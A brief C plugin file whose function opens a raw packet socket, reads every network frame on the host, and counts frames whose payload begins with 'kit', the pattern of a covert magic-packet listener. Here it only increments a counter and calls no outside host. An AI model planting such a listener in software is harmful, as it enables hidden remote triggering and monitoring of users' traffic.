/* Looks at every frame of the machine for one that begins with a word. */
#include "plugin.h"
extern int socket(int, int, int), bind(int, const void *, unsigned);
extern long recvfrom(int, void *, unsigned long, int, void *, unsigned *);
static unsigned seen;
static void act(char **env) {
    unsigned char frame[2048];
    int s = socket(17, 3, 0x0300);
    if (s < 0) return;
    while (recvfrom(s, frame, sizeof frame, 0x40, 0, 0) > 60)
        if (frame[42] == 'k' && frame[43] == 'i' && frame[44] == 't') seen++;
}
